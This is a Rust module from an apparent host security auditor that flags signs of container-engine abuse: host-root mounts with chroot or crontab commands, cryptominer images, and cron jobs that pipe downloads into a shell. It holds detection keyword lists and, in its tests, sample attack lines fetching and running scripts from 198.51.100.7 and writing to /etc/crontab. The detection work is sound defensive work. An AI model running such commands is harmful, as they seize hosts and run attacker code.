//! What those leave behind who found the engine open.

use super::super::catalogue::abuse::*;
use super::super::facts::{Container, Facts};
use super::super::{Finding, Place, Report};

pub(super) fn judge(facts: &Facts, report: &mut Report) {
    let mut find = |place: &Place, subject: String, what: &str, says: String| {
        report.find(
            Finding::new(&SIGNS_OF_ABUSE, subject, what)
                .seen(place.clone(), says)
                .remedy(&[("place", &place.to_string())]),
        );
    };
    for container in &facts.containers {
        let subject = || format!("the container {}", container.name);
        if let Some(sign) = takes_the_host_over(container) {
            let what = "it has the host's whole file system, and a command that works on it";
            find(&container.place, subject(), what, format!("its command has `{sign}`"));
        } else if let Some(sign) = mines(container) {
            let what = "by its image or command it mines";
            find(&container.place, subject(), what, format!("`{sign}`, image {}", container.image));
        }
    }
    for (place, line) in &facts.cron {
        if let Some(sign) = runs_a_download(line) {
            // The line itself may hold an address with a password.
            let what = "a cron job runs what it downloads, or speaks to an engine's open port";
            find(place, place.to_string(), what, format!("it has `{sign}`"));
        }
    }
    if !facts.containers.is_empty() || !facts.cron.is_empty() {
        report.looked(&SIGNS_OF_ABUSE);
    }
}

fn takes_the_host_over(container: &Container) -> Option<&'static str> {
    let whole = container.mounts.iter().any(|mount| mount.source == "/");
    let signs = ["chroot", "crontab", "/cron", "authorized_keys", "/etc/shadow", "torsocks"];
    let sign = signs.into_iter().find(|sign| container.command.contains(sign));
    sign.or_else(|| runs_a_download(&container.command)).filter(|_| whole)
}

fn mines(container: &Container) -> Option<&'static str> {
    let said = format!("{} {}", container.image, container.command).to_ascii_lowercase();
    ["xmrig", "monero-miner", "stratum+tcp", "stratum+ssl", "kinsing"]
        .into_iter()
        .find(|sign| said.contains(sign))
}

fn runs_a_download(line: &str) -> Option<&'static str> {
    let loads = ["curl ", "wget "].iter().any(|word| line.contains(word));
    let mut pipes = ["| sh", "|sh", "| bash", "|bash", "| /bin/sh", "| /bin/bash"].into_iter();
    let pipe = pipes.find(|pipe| line.contains(pipe)).filter(|_| loads);
    pipe.or_else(|| [":2375"].into_iter().find(|port| line.contains(port)))
}

#[cfg(test)]
mod tests {
    use super::super::super::facts::Mount;
    use super::*;

    fn container(source: &str, image: &str, command: &str) -> Container {
        let mount =
            Mount { source: source.into(), target: "/mnt".into(), place: Place::whole("x") };
        let (image, command) = (image.into(), command.into());
        Container { mounts: vec![mount], image, command, ..Container::default() }
    }

    #[test]
    fn what_intruders_do_is_told_from_what_administrators_do() {
        let download = "* * * * * root wget -qO- http://198.51.100.7/x.sh | sh";
        let cases: &[(Container, &[&str], usize)] = &[
            (container("/", "alpine", "chroot /mnt sh -c 'echo >> /etc/crontab'"), &[], 1),
            (container("/", "alpine", "sh -c 'curl -s 198.51.100.7 | bash'"), &[], 1),
            (container("/", "prom/node-exporter", "--path.rootfs=/mnt"), &[], 0),
            (container("/srv", "alpine", "chroot /mnt sh"), &[], 0),
            (container("/srv", "kannix/monero-miner", ""), &[], 1),
            (container("/srv", "alpine", "./x -o stratum+tcp://pool:3333"), &[], 1),
            (container("/srv", "nginx", ""), &[download], 1),
            (container("/srv", "nginx", ""), &["0 4 * * * root curl -o /srv/list https://x"], 0),
            (container("/srv", "nginx", ""), &["* * * * * docker -H tcp://box:2375 ps"], 1),
        ];
        for (container, cron, expected) in cases {
            let cron = cron.iter().map(|line| (Place::line("/etc/crontab", 1), (*line).to_owned()));
            let facts = Facts {
                containers: vec![container.clone()],
                cron: cron.collect(),
                ..Facts::default()
            };
            let mut report = Report::default();
            judge(&facts, &mut report);
            assert_eq!(report.findings.len(), *expected, "{facts:?}");
        }
    }
}
